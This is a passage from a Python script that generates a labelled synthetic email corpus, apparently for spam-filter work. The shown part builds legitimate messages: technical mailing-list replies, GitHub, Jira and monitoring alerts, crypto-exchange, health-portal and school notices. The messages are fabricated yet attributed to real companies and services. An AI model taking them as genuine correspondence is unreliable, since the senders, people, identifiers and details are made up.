        list_relay=list_relay('debian', 'debian-user@lists.debian.org', 'bendel.debian.org', 'debian-user'), in_reply_to='<%s@gmail.com>' % rs(20))

    d = rdate()
    text = '''On %s, Nadia Farouk <nadia@bluefen-analytics.example> wrote:
> The events table is ~900M rows, ~40k inserts/sec at peak, and autovacuum
> never seems to finish before the next one starts. Dead tuples keep
> climbing. PG 16, default autovacuum settings except naptime=10s.

With defaults, autovacuum_vacuum_scale_factor = 0.2 means it waits for ~180M
dead tuples before it even starts on that table, and cost-limit throttling
then makes each pass take forever. For a table that size, set per-table
storage parameters instead of global ones:

  ALTER TABLE events SET (autovacuum_vacuum_scale_factor = 0,
                          autovacuum_vacuum_threshold = 1000000,
                          autovacuum_vacuum_cost_limit = 2000);

Also check for long-running transactions or an abandoned replication slot
holding back the xmin horizon - pg_stat_activity and pg_replication_slots.
If something is pinning xmin, no vacuum setting will help.

Partitioning by day would make this much easier long-term, since you could
just drop old partitions.

--
Lorenz
''' % d.strftime('%a, %Y-%m-%d at %H:%M')
    add('ham', 'pgsql-general list reply with tuning advice', frm=('Lorenz Aigner', 'lorenz.aigner@pgberatung.at'), to=[('Nadia Farouk', P['nadia'][1])],
        cc=[('', 'pgsql-general@lists.postgresql.org')], rcpt=P['nadia'][1], subject='Re: autovacuum not keeping up on a large append-heavy table',
        date=d, infra='postfix', host='mail.pgberatung.at', submit_from='[%s]' % rip(), text=text, hstyle='tbird',
        headers=[('User-Agent', 'Evolution 3.54.3 (3.54.3-1.fc41)'), ('Autocrypt', 'addr=lorenz.aigner@pgberatung.at; prefer-encrypt=mutual; keydata=' + '\n '.join(textwrap.wrap(rb64(120), 76)).replace('laurenz', 'lorenz'))],
        list_relay=list_relay('pglister', 'pgsql-general@lists.postgresql.org', 'malur.postgresql.org', 'pgsql-general'),
        in_reply_to='<%s@bluefen-analytics.example>' % ruuid(), dmarc_p='none')

    d = rdate((2025, 4, 1), (2025, 10, 15))
    text = '''Hi all,

Heads up for Sunday: the Bridge St bridge is closed for resurfacing through the end of the month, so we're changing the route.

New route: same start at Ridgeline Coffee, 8:00 sharp. We'll head north on River Rd, cross at the Elm St bridge, and pick up the usual loop from there. Adds about 3 miles, total ~42.

Updated route on RideWithGPS: https://ridewithgps.com/routes/%s

Regroup at the gas station at mile 21 as usual. If it rains we'll decide by 7am and post here.

Cheers,
Pete
''' % rdig(8)
    add('ham', 'Google Groups cycling club announcement', frm=('Pete Sorensen', 'pete.sorensen@gmail.com'), to=[('Ridgeline Riders', 'ridgeline-riders@googlegroups.com')],
        rcpt=P['sam'][1], subject='Sunday route change - Bridge St closed', date=d, infra='google', text=text,
        html=simple_html(text.strip().split('\n\n')),
        list_relay=list_relay('ggroups', 'ridgeline-riders@googlegroups.com', 'gmr-mx.google.com', 'Ridgeline Riders'))

    d = rdate()
    text = '''I've been using the Veritas Mk.II honing guide for about five years and it's still the one I reach for. The narrow-blade head is worth the extra money if you do any chisel work under 1/2".

That said, for plane irons I've gone back to freehand on a 1000/6000 combo stone plus a leather strop. Once you get the feel for it, it's faster than setting up the jig every time, and a slight camber is easier.

If you're just starting out, get the jig - consistent results matter more than speed at first.

Walt in Vermont
'''
    add('ham', 'groups.io hobby list post', frm=('Walt Beaumont', 'walt.beaumont@myfairpoint.net'), to=[('', 'woodworkers@groups.io')],
        rcpt=P['owen'][1], subject='Re: [woodworkers] Sharpening jig recommendations', date=d, infra='postfix', host='smtp.consolidated.net',
        submit_from='[%s]' % rip(), text=text, no_dkim=True, dmarc_p=None, headers=[('X-Mailer', 'Microsoft Outlook 16.0')],
        reply_to=('', 'woodworkers@groups.io'),
        list_relay=list_relay('groupsio', 'woodworkers@groups.io', 'mail02.groups.io', 'woodworkers'), in_reply_to='<%s@groups.io>' % rs(20))

    d = rdate()
    text = '''On %s, Jonah Marlowe wrote:
> I want to block everything inbound on egress except ssh from my office
> and let the web server reach out for updates. Is this right?
>
> block all
> pass in on egress proto tcp from 198.51.100.0/24 to port ssh
> pass out on egress

That works, but you'll also want to keep state on the ssh rule (it's the
default, so fine) and allow the replies for your outbound traffic, which
"pass out" already does since state is kept. Two suggestions:

	set skip on lo
	block return
	pass out quick inet
	pass in on egress proto tcp from 198.51.100.0/24 to (egress) port ssh

Use "(egress)" so the rule tracks the interface address. And run
pfctl -nf /etc/pf.conf before loading.

-Oskar
''' % d.strftime('%a, %b %d, %Y at %I:%M:%S%p')
    add('ham', 'OpenBSD misc@ list answer about pf', frm=('Oskar Veldhuis', 'oskar@veldhuis-it.nl'), to=[('', 'misc@openbsd.org')],
        rcpt=P['jonah'][1], subject='Re: pf: block all except ssh from office', date=d, infra='postfix', host='mail.veldhuis-it.nl',
        text=text, hstyle='esp', headers=[('User-Agent', 'Mutt/2.2.12 (2023-09-09)')],
        list_relay=list_relay('majordomo', 'misc@openbsd.org', 'lists.openbsd.org', 'misc'), in_reply_to='<%s@marlowe-home.example>' % ruuid(),
        dmarc_p=None)

    d = rdate(off=2)
    text = '''Hallo Felix,

Am %s schrieb Felix Brandt:
> Seit dem Update auf Trixie startet CUPS nach dem Booten nicht mehr
> automatisch. Manuell mit "systemctl start cups" geht es.

Schau mal, ob cups.socket aktiviert ist:

  systemctl is-enabled cups.socket cups.service

Bei mir war nach dem Upgrade nur noch der Service aktiv, der Socket nicht.
Mit

  systemctl enable --now cups.socket

lief es danach wieder.

Gruß
Jürgen
''' % d.strftime('%d.%m.%Y um %H:%M')
    add('ham', 'debian-user-german list reply in German, ISO-8859-15', frm=('Jürgen Haas', 'jhaas@posteo.de'), to=[('', 'debian-user-german@lists.debian.org')],
        rcpt=P['felix'][1], subject='Re: CUPS startet nach Upgrade nicht mehr automatisch', date=d, infra='postfix', host='mout02.posteo.de',
        selector='2017', submit_from='[%s]' % rip(), text=text, charset='iso-8859-15', text_cte='8bit', hcs='iso-8859-15', hstyle='tbird',
        headers=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'de-DE')], in_reply_to='<%s@lindenhof-design.example>' % ruuid(),
        list_relay=list_relay('debian', 'debian-user-german@lists.debian.org', 'bendel.debian.org', 'debian-user-german'), dmarc_p='none')

    d = rdate()
    text = '''Hi Ana,

On %s, Ana Ribeiro wrote:
> Does the current draft say anything about whether a receiver should
> prefer the List-Unsubscribe-Post result over a failed DKIM on the
> list's own signature? Our operators are asking.

It doesn't, and I think that's intentional: one-click unsubscribe is an
RFC 8058 mechanism and the draft stays out of it. Section 5.3 only covers
how a receiver should treat an authenticated mailing list as an
intermediary when evaluating the original From domain.

If we want guidance on that interaction it probably belongs in the
operational considerations document, not here. I'd be happy to help write
a paragraph if the chairs agree.

Best,
Tessa
''' % d.strftime('%m/%d/%Y %-I:%M %p')
    add('ham', 'IETF working-group mailing list technical reply (Mailman 3)', frm=('Tessa Holm', 'tessa.holm@mailflow-advisory.com'), to=[('', 'dmarc@ietf.org')],
        rcpt=P['ana'][1], subject='Re: [dmarc-ietf] Receiver handling of list mail and one-click unsubscribe', date=d, infra='m365', text=text,
        html=simple_html(text.strip().split('\n\n'), gmail=False), tenant='mailflowadvisory', in_reply_to='<%s@kestrel-labs.example>' % ruuid(),
        list_relay=list_relay('mailman3', 'dmarc@ietf.org', 'mail2.ietf.org', 'Domain-based Message Authentication, Reporting, and Compliance',
                              'https://mailarchive.ietf.org/arch/browse/dmarc'), dmarc_p='reject')


# ============================================================================
# HAM 15: CI / GitHub / Jira / monitoring notifications (10)
# ============================================================================
def gh_headers(repo, reason, sender, rcpt_login, rcpt_addr):
    owner, name = repo.split('/')
    tok = rs(20, string.ascii_uppercase + string.digits)
    return [('List-ID', '%s <%s.%s.github.com>' % (repo, name, owner)), ('List-Archive', 'https://github.com/%s' % repo),
            ('X-GitHub-Reason', reason), ('X-GitHub-Sender', sender), ('X-GitHub-Recipient', rcpt_login),
            ('X-GitHub-Recipient-Address', rcpt_addr), ('X-Auto-Response-Suppress', 'All'), ('Precedence', 'list')], \
        '<mailto:unsub+%s@reply.github.com>, <https://github.com/notifications/unsubscribe/%s>' % (rb64u(40), tok + rs(30, string.ascii_uppercase + string.digits)), tok


def ham_ci():
    repo = 'northfield-studio/web-app'
    d = rdate()
    n = R.randint(400, 700)
    hd, un, tok = gh_headers(repo, 'review_requested', 'mokafor', 'devinhartley', P['devin'][1])
    text = '''@mokafor requested your review on: %s#%d Booking flow v2: date picker + availability API.

You can view, comment on, or merge this pull request online at:

  https://github.com/%s/pull/%d

Commit Summary

  * %s Add availability endpoint client
  * %s Replace legacy date picker with headless component
  * %s Handle timezone offsets in slot rendering

File Changes (9 files)

  M src/booking/AvailabilityClient.ts (84)
  A src/booking/DatePicker.tsx (212)
  M src/booking/SlotList.tsx (47)
  ...

Patch Links:

  https://github.com/%s/pull/%d.patch
  https://github.com/%s/pull/%d.diff

--
Reply to this email directly, view it on GitHub:
https://github.com/%s/pull/%d
You are receiving this because your review was requested.

Message ID: <%s/pull/%d@github.com>
''' % (repo, n, repo, n, rhex(7), rhex(7), rhex(7), repo, n, repo, n, repo, n, repo, n)
    add('ham', 'GitHub pull-request review request notification', frm=('Maya Okafor', 'notifications@github.com'), to=[(repo, 'web-app@noreply.github.com')],
        cc=[('Devin Hartley', P['devin'][1]), ('Review requested', 'review_requested@noreply.github.com')], rcpt=P['devin'][1],
        reply_to=(repo, 'reply+%s@reply.github.com' % (tok + rs(40, string.ascii_uppercase + string.digits))),
        subject='[%s] Booking flow v2: date picker + availability API (PR #%d)' % (repo, n), date=d, infra='github',
        msgid='<%s/pull/%d@github.com>' % (repo, n), text=text,
        html=html_page('<p><b>@mokafor</b> requested your review on: <a href="https://github.com/%s/pull/%d">%s#%d</a> Booking flow v2: date picker + availability API.</p>'
                       '<p style="font-size:small;color:#666">&mdash;<br>Reply to this email directly, <a href="https://github.com/%s/pull/%d">view it on GitHub</a>, or <a href="https://github.com/notifications/unsubscribe-auth/%s">unsubscribe</a>.<br>You are receiving this because your review was requested.</p>'
                       % (repo, n, repo, n, repo, n, tok)), headers=hd, unsub=un, one_click=False, dmarc_p='reject', with_sender=False)

    d = rdate()
    sha = rhex(40)
    rid = rdig(11)
    hd, un, tok = gh_headers(repo, 'ci_activity', 'swhitcombe', 'swhitcombe', P['sam'][1])
    text = '''[%s] CI workflow run

Run failed: CI - main (%s)

  test (ubuntu-latest, 20.x)     Failed in 3 minutes and 12 seconds
  test (ubuntu-latest, 22.x)     Failed in 3 minutes and 4 seconds
  lint                           Succeeded in 41 seconds
  build                          Skipped

View workflow run: https://github.com/%s/actions/runs/%s

--
You are receiving this because this workflow ran on your branch.
Manage your GitHub Actions notifications: https://github.com/settings/notifications
''' % (repo, sha[:7], repo, rid)
    add('ham', 'GitHub Actions workflow failure notification', frm=('Sam Whitcombe', 'notifications@github.com'), to=[(repo, 'web-app@noreply.github.com')],
        cc=[('Ci activity', 'ci_activity@noreply.github.com')], rcpt=P['sam'][1], subject='[%s] Run failed: CI - main (%s)' % (repo, sha[:7]),
        date=d, infra='github', msgid='<%s/check-suites/CS_kwDO%s/%d@github.com>' % (repo, rs(12), int(d.timestamp())), text=text,
        headers=hd, unsub=un, one_click=False, dmarc_p='reject', with_sender=False)

    d = rdate()
    repo2 = 'kestrel-labs/pipeline'
    hd, un, tok = gh_headers(repo2, 'security_alert', 'dependabot[bot]', 'tomaszz', P['tom'][1])
    pkg = pick([('urllib3', '2.2.1', '2.5.0', 'Redirects are not disabled when retries are disabled on PoolManager instantiation'),
                ('jinja2', '3.1.4', '3.1.6', 'Sandbox breakout through attr filter selecting format method'),
                ('requests', '2.31.0', '2.32.4', 'Insufficient credential protection when using .netrc with redirect')])
    text = '''[%s] Dependabot alert

Moderate severity: %s
Package: %s (pip)
Affected versions: < %s
Your version: %s (requirements.txt)
Patched version: %s

Dependabot has opened a pull request to update %s to %s.

Review the alert: https://github.com/%s/security/dependabot/%d

--
You are receiving this because you are watching security alerts for %s.
Manage notifications: https://github.com/%s/settings/security_analysis
''' % (repo2, pkg[3], pkg[0], pkg[2], pkg[1], pkg[2], pkg[0], pkg[2], repo2, R.randint(10, 90), repo2, repo2)
    add('ham', 'GitHub Dependabot security alert', frm=('dependabot[bot]', 'notifications@github.com'), to=[(repo2, 'pipeline@noreply.github.com')],
        rcpt=P['tom'][1], subject='[%s] Dependabot alert: %s' % (repo2, pkg[3]), date=d, infra='github',
        msgid='<%s/security/dependabot/%s@github.com>' % (repo2, rdig(4)), text=text, headers=hd, unsub=un, one_click=False,
        dmarc_p='reject', with_sender=False)

    d = rdate()
    repo3 = 'openlayers-contrib/tile-cache'
    n = R.randint(100, 400)
    hd, un, tok = gh_headers(repo3, 'comment', 'yfujita-dev', 'nfarouk', P['nadia'][1])
    text = '''yfujita-dev left a comment (%s#%d)

I can reproduce this on 0.9.2 with the S3 backend but not with the local one. It looks like the cache key includes the full presigned URL, so every request gets a new key once the signature rotates. Stripping the query string before hashing fixes it for me:

```python
key = hashlib.sha256(urlsplit(url)._replace(query="").geturl().encode()).hexdigest()
```

Happy to open a PR if that approach sounds right.

--
Reply to this email directly, view it on GitHub:
https://github.com/%s/issues/%d#issuecomment-%s
You are receiving this because you authored the thread.

Message ID: <%s/issues/%d/%s@github.com>
''' % (repo3, n, repo3, n, rdig(10), repo3, n, rdig(10))
    add('ham', 'GitHub issue comment on an open-source project', frm=('Yuki Fujita', 'notifications@github.com'), to=[(repo3, 'tile-cache@noreply.github.com')],
        cc=[('Nadia Farouk', P['nadia'][1]), ('Author', 'author@noreply.github.com')], rcpt=P['nadia'][1],
        reply_to=(repo3, 'reply+%s@reply.github.com' % rs(60, string.ascii_uppercase + string.digits)),
        subject='Re: [%s] Cache misses on every request with S3 presigned URLs (Issue #%d)' % (repo3, n), date=d, infra='github',
        msgid='<%s/issues/%d/%s@github.com>' % (repo3, n, rdig(10)), in_reply_to='<%s/issues/%d@github.com>' % (repo3, n), text=text,
        headers=hd, unsub=un, one_click=False, dmarc_p='reject', with_sender=False)

    # Jira
    d = rdate()
    key = 'DATA-%d' % R.randint(1000, 1999)
    text = '''Tomasz Zielinski assigned %s to Ana Ribeiro

Backfill job fails on DST boundary

Change By: Tomasz Zielinski
Assignee: Unassigned -> Ana Ribeiro
Priority: High
Sprint: Data Platform 2025-%02d

The nightly backfill for events_daily crashes when the partition range spans the DST switch. Stack trace in the attached log; looks like we construct naive datetimes and then localize twice.

View issue: https://kestrel-labs.atlassian.net/browse/%s?atlOrigin=%s

This message was sent by Atlassian Jira (v1001.0.0-SNAPSHOT#100289-sha1:%s)
''' % (key, R.randint(1, 24), key, rb64u(30), rhex(7))
    add('ham', 'Jira issue assignment notification', frm=('Tomasz Zielinski (Jira)', 'jira@kestrel-labs.atlassian.net'), to=P['ana'],
        subject='[JIRA] (%s) Backfill job fails on DST boundary' % key, date=d, infra='ses', dkim_dom='atlassian.net', mailfrom_dom='bounce.atlassian.net',
        text=text, html=html_page('<div style="font-family:-apple-system,sans-serif;font-size:14px"><p><b>Tomasz Zielinski</b> assigned <a href="https://kestrel-labs.atlassian.net/browse/%s">%s</a> to <b>Ana Ribeiro</b></p><h3>Backfill job fails on DST boundary</h3><p>The nightly backfill for events_daily crashes when the partition range spans the DST switch.</p></div>' % (key, key)),
        headers=[('Auto-Submitted', 'auto-generated'), ('X-JIRA-FingerPrint', rhex(32)), ('Precedence', 'bulk')], dmarc_p='reject')

    # Confluence mention
    d = rdate()
    text, html = txn('Confluence', '#0052cc', 'Ana Ribeiro mentioned you on a page',
                     ['"@Tomasz Zielinski can you sanity-check the retention numbers in section 3 before we send this to legal?"'],
                     rows=[('Page', 'Data Retention Policy - Draft v3'), ('Space', 'Data Platform')],
                     cta='View page', url='https://kestrel-labs.atlassian.net/wiki/spaces/DP/pages/%s' % rdig(9),
                     footer=['This message was sent by Atlassian Confluence Cloud.', 'Stop watching this page | Manage notifications'], variant=2)
    add('ham', 'Confluence @mention notification', frm=('Ana Ribeiro (Confluence)', 'confluence@kestrel-labs.atlassian.net'), to=P['tom'],
        subject='Ana Ribeiro mentioned you on "Data Retention Policy - Draft v3"', date=d, infra='ses', dkim_dom='atlassian.net',
        mailfrom_dom='bounce.atlassian.net', text=text, html=html, dmarc_p='reject')

    # GitLab pipeline
    d = rdate()
    pid = rdig(10)
    text = '''Pipeline #%s has failed!

Project: bluefen / ingest-service ( https://gitlab.com/bluefen/ingest-service )
Branch: feature/parquet-writer ( https://gitlab.com/bluefen/ingest-service/-/commits/feature/parquet-writer )

Commit: %s ( https://gitlab.com/bluefen/ingest-service/-/commit/%s )
Commit Message: Write row groups in 128MB chunks
Commit Author: Nadia Farouk ( https://gitlab.com/nfarouk )

Pipeline #%s ( https://gitlab.com/bluefen/ingest-service/-/pipelines/%s ) triggered by Nadia Farouk ( https://gitlab.com/nfarouk )
had 1 failed job.

Failed job
  test: unit ( https://gitlab.com/bluefen/ingest-service/-/jobs/%s )

You're receiving this email because of your account on gitlab.com. Manage all notifications: https://gitlab.com/-/profile/notifications
''' % (pid, rhex(8), rhex(40), pid, pid, rdig(10))
    add('ham', 'GitLab pipeline failure notification via Mailgun', frm=('GitLab', 'gitlab@mg.gitlab.com'), to=P['nadia'],
        subject='Failed pipeline for feature/parquet-writer | ingest-service | %s' % rhex(8), date=d, infra='mailgun', mg_dom='mg.gitlab.com',
        dkim_dom='mg.gitlab.com', text=text,
        headers=[('X-GitLab-Project', 'ingest-service'), ('X-GitLab-Project-Id', rdig(8)), ('X-GitLab-Project-Path', 'bluefen/ingest-service'),
                 ('X-GitLab-Pipeline-Id', pid), ('X-GitLab-Pipeline-Status', 'failed'), ('X-GitLab-NotificationReason', 'own_activity'),
                 ('List-Id', 'bluefen/ingest-service <%s.ingest-service.bluefen.gitlab.com>' % rdig(8)), ('Auto-Submitted', 'auto-generated')],
        dmarc_p='reject')

    # Sentry
    d = rdate()
    iid = 'BLUEFEN-API-%s' % rHEX(3)
    text, html = txn('Sentry', '#362d59', 'New issue: TypeError',
                     ["Cannot read properties of undefined (reading 'tenantId')"],
                     rows=[('Project', 'bluefen-api'), ('Environment', 'production'), ('Release', 'api@%s' % rhex(7)),
                           ('Culprit', 'src/middleware/auth.ts in resolveTenant'), ('Events', str(R.randint(12, 400))), ('Users affected', str(R.randint(3, 60)))],
                     cta='View on Sentry', url='https://bluefen.sentry.io/issues/%s/?alert_rule_id=%s&alert_type=issue&notification_uuid=%s' % (rdig(10), rdig(6), ruuid()),
                     footer=['You are receiving this email due to matching rules: "New issues in production".', 'Sentry, 45 Fremont St, San Francisco, CA 94105'], variant=2)
    add('ham', 'Sentry new-issue error alert', frm=('Sentry', 'noreply@md.getsentry.com'), to=P['ops_bluefen'],
        subject='[Sentry] %s - TypeError: Cannot read properties of undefined (reading \'tenantId\')' % iid, date=d, infra='mandrill',
        dkim_dom='md.getsentry.com', text=text, html=html, dmarc_p='reject')

    # PagerDuty
    d = rdate(hours=(0, 23))
    inc = R.randint(4000, 9999)
    text = '''You have 1 TRIGGERED Incident

Incident #%d: [FIRING:1] HighErrorRate api-gateway (p99 latency > 2s for 10m)
Service: API Gateway (Production)
Assigned to: Nadia Farouk
Urgency: High
Triggered at: %s

Acknowledge: https://bluefen.pagerduty.com/incidents/%s/acknowledge
Resolve: https://bluefen.pagerduty.com/incidents/%s/resolve
View: https://bluefen.pagerduty.com/incidents/%s

--
PagerDuty, Inc. 600 Townsend St #200, San Francisco, CA 94103
''' % (inc, d.strftime('%a, %b %-d %Y %-I:%M %p'), rs(14, string.ascii_uppercase + string.digits), rs(14, string.ascii_uppercase + string.digits), rs(14, string.ascii_uppercase + string.digits))
    add('ham', 'PagerDuty triggered-incident page', frm=('PagerDuty ALERT', 'no-reply@pagerduty.com'), to=P['nadia'],
        subject='[PagerDuty ALERT] You have 1 TRIGGERED Incident (#%d)' % inc, date=d, infra='sparkpost', text=text,
        headers=[('X-PagerDuty-Incident-Id', rs(14, string.ascii_uppercase + string.digits)), ('Auto-Submitted', 'auto-generated')], dmarc_p='reject')

    # Vercel failed deployment
    d = rdate()
    text, html = txn('Vercel', '#000000', 'Failed production deployment',
                     ["A production deployment for northfield-site failed on team 'Northfield Studio'."],
                     rows=[('Project', 'northfield-site'), ('Branch', 'main'), ('Commit', '%s - Update case studies grid' % rhex(7)), ('Error', 'Build failed: Command "next build" exited with 1')],
                     cta='View Build Logs', url='https://vercel.com/northfield-studio/northfield-site/%s' % rs(9),
                     footer=['Vercel Inc. You can manage notification settings in your team\'s dashboard.'], variant=2)
    add('ham', 'Vercel failed deployment notification', frm=('Vercel', 'notifications@vercel.com'), to=P['sam'],
        subject="Failed production deployment on team 'Northfield Studio'", date=d, infra='ses', text=text, html=html, dmarc_p='reject')


# ============================================================================
# HAM 16: crypto exchanges' account notices (4)
# ============================================================================
def ham_crypto():
    d = rdate()
    amt = '%.4f' % R.uniform(0.01, 0.2)
    text, html = txn('coinbase', '#0052ff', 'You received %s ETH' % amt,
                     ['You just received %s ETH (about $%s) from an external Ethereum address.' % (amt, money(40, 700))],
                     rows=[('Network', 'Ethereum'), ('Transaction', '0x%s...%s' % (rhex(6), rhex(4)))],
                     cta='View transaction', url='https://www.coinbase.com/transactions/%s' % ruuid(),
                     after=['Coinbase will never ask you for your password, 2-step verification codes, or to transfer funds to a new address.'],
                     footer=['Coinbase, Inc. 82 Pearl Street, New York, NY 10004 (registered address)'], variant=2)
    add('ham', 'Coinbase incoming-transfer notice', frm=('Coinbase', 'no-reply@info.coinbase.com'), to=who('devin'),
        subject='You just received %s ETH' % amt, date=d, infra='sendgrid', text=text, html=html, dmarc_p='reject')

    d = rdate()
    text = '''Hello,

A withdrawal was requested from your Kraken account.

Asset: BTC
Amount: %.5f BTC
Destination: Cold storage (bc1q...%s)
Date: %s UTC

If you made this request, no action is needed. The withdrawal will be processed shortly.

If you did NOT make this request, lock your account immediately at https://www.kraken.com/sign-in and contact Kraken Support.

Kraken will never ask for your password or 2FA codes.

Kraken Security
Payward, Inc.
''' % (R.uniform(0.01, 0.3), rl(6), d.astimezone(UTC).strftime('%Y-%m-%d %H:%M:%S'))
    add('ham', 'Kraken withdrawal confirmation the user initiated', frm=('Kraken', 'noreply@kraken.com'), to=who('tom'),
        subject='Withdrawal request received', date=d, infra='postmark', text=text, dmarc_p='reject')

    d = rdate()
    ipx = rip()
    text, html = txn('BINANCE', '#f0b90b', '[Binance] Login Attempted from New IP Address',
                     ['The system has detected that your account is logged in from an unused IP address.'],
                     rows=[('Account', 'ho****@tidewater-outfitters.example'), ('Time', d.astimezone(UTC).strftime('%Y-%m-%d %H:%M:%S (UTC)')),
                           ('IP Address', ipx), ('Device', 'Chrome V139.0 (Windows)')],
                     after=['If this activity is not your own operation, please disable your account and contact us immediately.',
                            'This is an automated message, please do not reply.'],
                     footer=['© 2025 Binance.com, All Rights Reserved.'])
    add('ham', 'Binance new-IP login notice', frm=('Binance', 'do_not_reply@mgdirectmail.binance.com'), to=who('hollis'),
        subject='[Binance] Login Attempted from New IP Address %s - %s' % (ipx, d.astimezone(UTC).strftime('%Y-%m-%d %H:%M:%S (UTC)')), date=d,
        infra='mailgun', mg_dom='mgdirectmail.binance.com', dkim_dom='mgdirectmail.binance.com', text=None, html=html, dmarc_p='reject')

    d = rdate((2026, 1, 20), (2026, 2, 28))
    text, html = txn('Gemini', '#00dcfa', 'Your 2025 tax documents are ready',
                     ['Hi Raj,', 'Your 2025 Form 1099-MISC and transaction history are now available in your Gemini account under Account > Documents.',
                      'Gemini does not provide tax advice. Please consult a tax professional.'],
                     cta='View documents', url='https://exchange.gemini.com/settings/documents',
                     footer=['Gemini Trust Company, LLC, 600 Third Avenue, 2nd Floor, New York, NY 10016'], variant=2)
    add('ham', 'Gemini annual tax documents ready', frm=('Gemini', 'no-reply@gemini.com'), to=who('raj'),
        subject='Your 2025 tax documents are ready', date=d, infra='sendgrid', text=text, html=html, dmarc_p='reject')


# ============================================================================
# HAM 17: health and insurance portals (5)
# ============================================================================
def ham_health():
    d = rdate()
    text, html = txn('KAISER PERMANENTE', '#0078b3', 'You have a new message',
                     ['Dear Priya,', 'You have a new secure message from Jennifer Alvarez, MD in your kp.org inbox.',
                      'For your privacy, the content of the message is not included in this email. Please sign on to kp.org or use the Kaiser Permanente app to read it.'],
                     cta='Sign on to read', url='https://healthy.kaiserpermanente.org/northwest/secure/inbox',
                     after=['Please do not reply to this email. This mailbox is not monitored.'],
                     footer=['Kaiser Foundation Health Plan of the Northwest, 500 NE Multnomah St, Suite 100, Portland, OR 97232'])
    add('ham', 'Kaiser Permanente secure-message notification', frm=('Kaiser Permanente', 'kp-donotreply@kp.org'), to=P['priya'],
        subject='New message from your doctor', date=d, infra='sfmc', esp_sub='mail.kp.org', dkim_dom='kp.org', text=text, html=html,
        dmarc_p='reject')

    d = rdate()
    text, html = txn('aetna', '#7d3f98', 'Your Explanation of Benefits is ready',
                     ['Hello Maya,', 'A claim has been processed and your Explanation of Benefits (EOB) is available.',
                      'An EOB is not a bill. It shows what your provider charged, what your plan paid, and what you may owe.'],
                     rows=[('Member', 'Maya Okafor'), ('Provider', 'Brooklyn Physical Therapy'), ('Date of service', (d - dt.timedelta(days=20)).strftime('%m/%d/%Y')),
                           ('You may owe', '$%s' % money(20, 90))],
                     cta='View your EOB', url='https://health.aetna.com/claims',
                     footer=['Aetna Inc., 151 Farmington Avenue, Hartford, CT 06156'])
    add('ham', 'Aetna explanation-of-benefits notice', frm=('Aetna', 'aetnaonline@aetna.com'), to=P['maya'],
        subject='Your Explanation of Benefits (EOB) is ready', date=d, infra='sfmc', esp_sub='email.aetna.com', dkim_dom='aetna.com',
        text=text, html=html, dmarc_p='reject')

    d = rdate()
    ap = d + dt.timedelta(days=2)
    text = '''Hi Devin,

This is a reminder of your upcoming appointment.

%s at %s
Dr. Samuel Ortiz, MD
One Medical - Flatiron
32 W 18th St, New York, NY 10011

Please arrive 10 minutes early. Need to cancel or reschedule? Do it in the app or at https://app.onemedical.com/appointments at least 24 hours before your visit to avoid a late-cancel fee.

One Medical
'''
    add('ham', 'One Medical appointment reminder, plain text', frm=('One Medical', 'no-reply@onemedical.com'), to=P['devin'],
        subject='Reminder: your appointment on %s' % ap.strftime('%a, %b %-d'), date=d, infra='ses',
        text=text % (ap.strftime('%A, %B %-d'), ap.replace(hour=9, minute=40).strftime('%-I:%M %p')), dmarc_p='reject')

    d = rdate()
    ap = (d + dt.timedelta(days=R.randint(3, 12))).replace(hour=15, minute=15, second=0)
    ics = make_ics('PUBLISH', '%s@zocdoc.com' % ruuid(), ap, ap + dt.timedelta(minutes=30), 'Dentist: Dr. Helen Park',
                   ('Zocdoc', 'no-reply@zocdoc.com'), [], '211 E 43rd St, New York, NY 10017', 'Booked through Zocdoc', prodid='-//Zocdoc//EN', stamp=d)
    text, html = txn('Zocdoc', '#fff200', 'Your appointment is confirmed',
                     ['Hi Sam, you\'re all set.'],
                     rows=[('Provider', 'Dr. Helen Park, DDS'), ('When', ap.strftime('%A, %B %-d at %-I:%M %p')), ('Where', '211 E 43rd St, New York, NY 10017'),
                           ('Reason', 'Cleaning / Exam')],
                     cta='Manage appointment', url='https://www.zocdoc.com/appointments/%s' % rdig(9),
                     after=['Please complete your intake forms before your visit.'], footer=['Zocdoc, Inc., 568 Broadway, 9th Floor, New York, NY 10012'])
    add('ham', 'Zocdoc appointment confirmation with ICS', frm=('Zocdoc', 'no-reply@zocdoc.com'), to=P['sam'],
        subject='Confirmed: Dr. Helen Park on %s' % ap.strftime('%a, %b %-d'), date=d, infra='sendgrid', text=text, html=html,
        attachments=[ics_attach(ics, 'appointment.ics')], dmarc_p='reject')

    d = rdate(off=2)
    text = '''Sehr geehrter Herr Brandt,

in Ihrem persönlichen TK-Postfach ist eine neue Nachricht für Sie eingegangen.

Betreff: Ihre Bescheinigung über Beitragszahlungen

Aus Datenschutzgründen können wir Ihnen den Inhalt nicht per E-Mail senden. Sie können die Nachricht in der TK-App oder unter "Meine TK" auf tk.de lesen.

Mit freundlichen Grüßen
Ihre Techniker Krankenkasse

Techniker Krankenkasse, Bramfelder Straße 140, 22305 Hamburg
Bitte antworten Sie nicht auf diese E-Mail.
'''
    add('ham', 'German health-insurer portal message notice', frm=('Die Techniker', 'noreply@tk.de'), to=P['felix'],
        subject='Neue Nachricht in Ihrem TK-Postfach', date=d, infra='postfix', host='mx03.tk.de', text=text, text_cte='quoted-printable',
        dmarc_p='reject')


# ============================================================================
# HAM 18: school and HOA notices (5)
# ============================================================================
def ham_school():
    d = rdate((2025, 9, 2), (2026, 5, 30))
    text, html = txn('ParentSquare', '#3b82c4', 'Early dismissal this Friday',
                     ['Lincoln Elementary School', 'Dear Lincoln families,',
                      'This Friday is an early dismissal day for teacher professional development. Students will be released at 12:30 PM. Lunch will be served before dismissal.',
                      'After-school care through the YMCA will begin at 12:30 and run until 6:00 PM as usual. Please let your child\'s teacher know if pickup arrangements are changing.',
                      'Thank you,\nPrincipal Angela Brooks'],
                     cta='View post', url='https://www.parentsquare.com/feeds/%s' % rdig(8),
                     footer=['Sent from ParentSquare for Lincoln Elementary School', 'Manage your notification settings in the ParentSquare app.'])
    add('ham', 'ParentSquare school announcement', frm=('Lincoln Elementary School', 'donotreply@parentsquare.com'), to=P['priya'],
        subject='Lincoln Elementary: Early dismissal this Friday', date=d, infra='ses', text=text, html=html, dmarc_p='reject')

    d = rdate((2025, 12, 1), (2026, 2, 20), hours=(5, 6))
    text = '''Good morning, Portland Public Schools families.

Due to icy road conditions, all Portland Public Schools will be CLOSED today, %s. All after-school activities, athletics and evening events are also canceled.

Central office will open at 10 a.m. Meal sites will not be open today.

We will send an update by 4 p.m. regarding tomorrow's schedule. Please stay safe.

Portland Public Schools
501 N. Dixon St., Portland, OR 97227

